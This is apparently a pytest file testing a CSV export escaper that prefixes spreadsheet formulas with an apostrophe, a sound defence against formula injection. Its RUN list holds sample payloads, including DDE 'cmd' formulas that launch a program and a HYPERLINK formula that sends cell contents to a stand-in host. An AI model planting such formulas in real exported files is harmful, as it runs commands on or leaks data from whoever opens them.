"""Cells of CSV files that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import json

import pytest

from airflow_provider_retreaver.storage.csv_cells import escape_formula, escape_formulas
from airflow_provider_retreaver.transfers.csv_calls import CommaSeparated

RUN = [
    "=1+1", '=HYPERLINK("http://x.test/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1)",
    "\t=1", "\r=1", "\n=1", "  =1", "\u200b=1", "\ufeff=1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)",
    '"=1"', "a;=1", "a\t=1", "a\n=1", "a; +1+1", "+", "-", "=", "+1 (919) 555-0123", "\tx",
]  # fmt: skip
KEPT = [
    "", "a", "+19195550123", "-1.50", "19195550123", "2026-01-31", "a=b", "a-b", "a @ b", "https://x.test/?a=1&b=-2",
    "'=1", '{"a":"=1"}', "not a phone number", "09:00-17:30", "é=1",
]  # fmt: skip


@pytest.mark.parametrize("cell", RUN)
def test_formulas_are_escaped(cell):
    """An apostrophe stands before what would be run, and the rest of the cell is unchanged."""
    escaped = escape_formula(cell)
    assert escaped.replace("'", "") == cell.replace("'", "")
    assert escaped.count("'") > cell.count("'")
    assert escape_formula(escaped) == escaped


@pytest.mark.parametrize("cell", KEPT)
def test_other_cells_are_kept(cell):
    """Phone numbers, amounts, times and texts within which such characters stand are kept."""
    assert escape_formula(cell) == cell


def test_a_row_keeps_its_numbers():
    """Values that are no texts cannot be formulas."""
    assert escape_formulas([3, -1.5, None, "=1"]) == [3, -1.5, None, "'=1"]


@pytest.mark.parametrize(("escape", "cell"), [(False, "=1+1"), (True, "'=1+1")])
def test_exports_escape_by_choice(escape, cell):
    """A CSV export has values as they came unless escaping was asked for."""
    file = io.BytesIO()
    writer = CommaSeparated(file, tags="map", change=None, escape=escape)
    call = {"uuid": "u-1", "caller_zip": "=1+1", "caller": "+19195550123", "revenue": -1.5, "tags": {"a": "=1"}}
    writer.write([json.dumps(call).encode()])
    [row] = csv.DictReader(io.StringIO(file.getvalue().decode(), newline=""))
    assert (row["caller_zip"], row["caller"], row["revenue"]) == (cell, "+19195550123", "-1.5")
    assert row["tags"] == '{"a":"=1"}'
